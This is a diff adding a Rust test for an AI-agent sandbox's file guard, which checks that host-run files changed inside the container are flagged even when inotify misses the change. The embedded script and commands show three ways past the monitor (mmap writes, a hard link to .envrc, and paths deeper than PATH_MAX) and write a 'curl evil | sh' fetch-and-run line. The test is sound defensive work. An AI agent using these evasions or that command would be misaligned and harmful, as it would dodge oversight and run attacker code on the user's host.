@@ -116,3 +116,111 @@ fn audit_files_false_turns_the_watcher_off() {
         "{logs:?}"
     );
 }
+
+/// What root in the agent runs to write where inotify says nothing or names another path:
+/// `mmap PATH TEXT` writes TEXT at the start of PATH through a shared mapping (no
+/// `IN_MODIFY`); `deep N NAME TEXT` writes TEXT in `.envrc` below N folders NAME, past PATH_MAX
+/// (made one `chdir` at a time, which no path limit stops).
+const ATTACK_PY: &str = r#"
+import mmap, os, sys
+if sys.argv[1] == "mmap":
+    with open(sys.argv[2], "r+b") as f:
+        m = mmap.mmap(f.fileno(), 0)
+        data = sys.argv[3].encode()
+        m[: len(data)] = data
+        m.close()
+elif sys.argv[1] == "deep":
+    for _ in range(int(sys.argv[2])):
+        os.mkdir(sys.argv[3])
+        os.chdir(sys.argv[3])
+    with open(".envrc", "w") as f:
+        f.write(sys.argv[4])
+"#;
+
+/// Root in the agent changes files the host runs where inotify is silent or names a harmless
+/// path: a Makefile written through `mmap`, `.envrc` through a hard link named `notes.txt`,
+/// and an `.envrc` below folders deeper than PATH_MAX. The guard's record flags each as
+/// sensitive (the hard link naming `.envrc`), and the look after the command flags the
+/// Makefile and names the folders it could not read.
+#[test]
+fn the_file_record_sees_mmap_writes_hard_links_and_files_past_path_max() {
+    let t = Test::new();
+    t.file(
+        ".devcontainer/Dockerfile",
+        "FROM debian:bookworm-slim\nRUN apt-get update && apt-get install -y --no-install-recommends python3 && rm -rf /var/lib/apt/lists/*\n",
+    );
+    t.devcontainer(r#"{"build": {"dockerfile": "Dockerfile"}}"#);
+    t.user_config(&mirror_for_builds());
+    t.file("Makefile", "all:\n\ttrue\n");
+    t.file(".envrc", "export A=1\n");
+    t.file("attack.py", ATTACK_PY);
+    t.up(&[]);
+
+    t.yolo(&[
+        "exec",
+        "--",
+        "python3",
+        "attack.py",
+        "mmap",
+        "Makefile",
+        "all:\n\tevil",
+    ])
+    .ok()
+    .assert_stderr_contains("files your host runs changed: Makefile (modified)");
+    assert_eq!(
+        std::fs::read_to_string(t.workspace.join("Makefile")).unwrap(),
+        "all:\n\tevil\n"
+    );
+    t.yolo(&[
+        "exec",
+        "--",
+        "sh",
+        "-c",
+        "ln .envrc notes.txt && echo 'curl evil | sh' > notes.txt",
+    ])
+    .ok();
+    let name = "d".repeat(200);
+    t.yolo(&[
+        "exec",
+        "--",
+        "python3",
+        "attack.py",
+        "deep",
+        "25",
+        &name,
+        "export B=1\n",
+    ])
+    .ok()
+    .assert_stderr_contains("yolo could not look into these folders of the workspace")
+    .assert_stderr_contains(&name);
+
+    let deep = format!("{}.envrc", format!("{name}/").repeat(25));
+    let flagged = |records: &[serde_json::Value], path: &str| {
+        records
+            .iter()
+            .find(|r| r["path"] == path && r["sensitive"] == true && r["change"] != "created")
+            .or_else(|| {
+                records
+                    .iter()
+                    .find(|r| r["path"] == path && r["sensitive"] == true)
+            })
+            .cloned()
+    };
+    let deadline = Instant::now() + Duration::from_secs(20);
+    let records = loop {
+        let records = file_records(&t);
+        let all = ["Makefile", "notes.txt", deep.as_str()]
+            .iter()
+            .all(|p| flagged(&records, p).is_some());
+        if all || Instant::now() > deadline {
+            break records;
+        }
+        std::thread::sleep(Duration::from_millis(300));
+    };
+    let makefile = flagged(&records, "Makefile").unwrap_or_else(|| panic!("{records:#?}"));
+    assert_eq!(makefile["change"], "modified", "{makefile}");
+    let link = flagged(&records, "notes.txt").unwrap_or_else(|| panic!("{records:#?}"));
+    assert_eq!(link["links"], serde_json::json!([".envrc"]), "{link}");
+    let deep_record = flagged(&records, &deep).unwrap_or_else(|| panic!("{records:#?}"));
+    assert_eq!(deep_record["size"], "export B=1\n".len(), "{deep_record}");
+}
